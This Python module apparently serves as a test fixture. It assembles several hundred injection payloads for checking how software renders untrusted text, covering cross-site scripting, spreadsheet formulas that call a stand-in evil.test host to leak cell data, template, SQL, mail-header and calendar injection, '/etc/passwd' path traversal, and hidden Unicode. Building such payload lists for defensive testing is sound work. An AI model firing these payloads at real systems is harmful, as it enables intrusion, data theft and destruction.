"""
Five hundred texts that some reader of texts takes for something else: a browser, a spreadsheet, a mail program, Typst,
Jinja, SQL, a calendar, a file system. Each is put together from what does it and what it is hidden behind.
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from itertools import product

FLAG = "window.ran=1"
"""What a script would do, so that a browser can be asked whether one ran."""

ELEMENTS: Sequence[str] = (
    f"<script>{FLAG}</script>",
    f"<SCRIPT >{FLAG}</SCRIPT >",
    f"<img src=x onerror={FLAG}>",
    f"<svg/onload={FLAG}>",
    f"<svg><script>{FLAG}</script></svg>",
    f"<math><mtext><img src onerror={FLAG}></mtext></math>",
    f"<details open ontoggle={FLAG}>",
    f"<body onpageshow={FLAG}>",
    f"<iframe srcdoc='<script>parent.{FLAG}</script>'></iframe>",
    f"<a href='javascript:{FLAG}'>here</a>",
    "<object data='data:text/html,hello'></object>",
    "<base href='https://evil.test/'>",
    "<form action='https://evil.test/'><button>Sign in</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.test/a.css>",
    f"<input autofocus onfocus={FLAG}>",
    f"<template><img src onerror={FLAG}></template>",
    "<!-- a comment that has no end",
    "<plaintext>",
    f"<noscript><p title='</noscript><img src onerror={FLAG}>'>",
    "<div hx-get=https://evil.test/ hx-trigger=load>",
    f"<div hx-on:load={FLAG}>",
)
BREAKS = ("", '"', "'", '">', "'>", "</textarea>", "</title>", "</script>", "--><", "]]>", "&quot;>", "\\u003c")
ATTRIBUTES = tuple(
    f"{quote}{gap}{name}={FLAG}{gap}x={quote}"
    for quote, gap, name in product(('"', "'", "`"), (" ", "/", "\t"), ("onfocus", "onmouseover", "style", "hx-on"))
)
ADDRESSES = tuple(
    f"{scheme}{FLAG}"
    for scheme in ("javascript:", "JaVaScRiPt:", "java\tscript:", "vbscript:", "data:text/html,", "&#106;avascript:")
)
BEGINNINGS = ("=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠", " =", "'=", '"=', ";=", "|=", "\n=")
WORKED_OUT = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.test/?a="&A1,"here")',
    "1+1",
    "SUM(1,1)*0",
    'IMPORTXML("https://evil.test/","//a")',
    'WEBSERVICE("https://evil.test/")',
)
TEMPLATES = (
    "{{7*7}}",
    "{{ config }}",
    "{% for a in range(9) %}x{% endfor %}",
    "{{ ''.__class__.__mro__ }}",
    "{# nothing #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{%raw%}",
    "{{recipient.name}}",
    "{{ union['name'] }}",
    "%(name)s",
    "{0.__class__}",
    "%n%n%s",
    "$(id)",
    "`id`",
)
TYPESETTING = (
    '#eval("1+1")',
    "#panic()",
    '#include "/etc/passwd"',
    '#read("/etc/passwd")',
    "#set page(width: 1pt)",
    "$ x^2 $",
    "@reference",
    "<label>",
    "*bold* _slanted_ `raw`",
    "\\#",
    "\\u{1F600}",
    "= A heading",
    "- an item",
    "/ a term: said",
    "// a comment",
    "/* a comment",
    "#{",
    "]",
    "[",
    "~",
    "---",
    "https://evil.test/",
    '#link("https://evil.test/")[here]',
    '#import "@preview/a:1.0.0"',
    "\\",
)
HEADERS = tuple(
    f"Said{ends}{header}"
    for ends in ("\r\n", "\n", "\r", "\u2028", "\x0b", "\x85")
    for header in ("Bcc: all@evil.test", "Subject: other", "Content-Type: text/html", "Set-Cookie: a=b", "\r\n<p>body")
)
CALENDARS = (
    "END:VEVENT\r\nBEGIN:VEVENT",
    "SUMMARY:other",
    "a;b,c\\n\\;d",
    "x" * 74 + "é" * 3,
    "DTSTART:20260101",
    "ATTENDEE:mailto:all@evil.test",
    "BEGIN:VALARM\nACTION:PROCEDURE",
)
HIDDEN = (
    "\u202egnp.exe",
    "\u202aleft",
    "\u2066alone\u2069",
    "\u200bnothing wide",
    "\ufeffmark",
    "\u00adsoft",
    "\u2060joined",
    "\U000e0041tag",
    "e" + "\u0301" * 40,
    "\x00nothing",
    "\x1b[31mred",
    "\x07bell",
    "\x7fgone",
    "\ufffe",
    "\ufdd0",
    "ﷺ" * 20,
    "İstanbul",
    "ß" * 30,
    "𝒶𝓁𝓁",
    "\ud7ff\ue000",
)
QUERIES = (
    "' OR '1'='1",
    "'; DROP TABLE cases; --",
    "1); DELETE FROM members; --",
    "' UNION SELECT name FROM members --",
    "%",
    "_",
    "%%%",
    "\\%",
    "[a-z]",
    "*",
    "\\",
    '"',
    "''",
    "$1",
    ":name",
    "?",
    "/*!50000 x */",
)
PATHS = (
    "../../etc/passwd",
    "..\\..\\windows",
    "/etc/passwd",
    "%2e%2e%2f",
    "file:///etc/passwd",
    "C:\\",
    "~root",
    "NUL",
    ".",
)
LONG = ("x" * 2_000, "x" * 2_001, "x" * 70_000, "<" * 1_500, "é" * 1_999, "9" * 400, " " * 300 + "a", "a\n" * 900)


def _put_together() -> Iterator[str]:
    for before, element in product(BREAKS, ELEMENTS):
        yield f"{before}{element}"
    yield from ATTRIBUTES
    yield from ADDRESSES
    for begins, rest in product(BEGINNINGS, WORKED_OUT):
        yield f"{begins}{rest}"
    for said in (TEMPLATES, TYPESETTING, HEADERS, CALENDARS, HIDDEN, QUERIES, PATHS, LONG):
        yield from said


PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(_put_together()))
